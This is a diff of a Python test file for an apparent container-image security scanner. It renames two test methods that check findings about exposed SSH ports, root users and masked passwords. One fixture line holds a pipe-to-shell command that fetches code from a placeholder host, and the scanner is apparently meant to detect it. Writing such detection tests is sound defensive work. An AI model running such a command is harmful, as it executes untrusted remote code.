@@ -163,7 +163,7 @@ class HistoryTest(support.Shipped):
         for rule in shell_lines.FOUND:
             self.assertEqual(documents["history"][rule], documents["persistence"][rule])
 
-    def test_what_an_image_is_told_to_run(self):
+    def test_commands_of_the_configuration(self):
         found = self.found("instruction", "description", config={"ExposedPorts": {"22/tcp": {}, "80/tcp": {}}})
         self.assertEqual(found, [("Low", "EXPOSE", "offers ssh"), ("None", "USER", "runs as root")])
         for user, count in (("root", 1), ("0:0", 1), ("me", 0), ("1000:0", 0)):
@@ -189,7 +189,7 @@ class HistoryTest(support.Shipped):
                 self.assertNotIn(PASSWORD, json.dumps(events))
                 self.assertIn("********", events[0]["alert_detail"]["description"])
 
-    def test_what_is_told(self):
+    def test_members_of_findings(self):
         line = "RUN /bin/sh -c curl x.example | sh # buildkit"
         [event, _] = self.events(history=[{"created_by": line}])
         self.assertEqual(
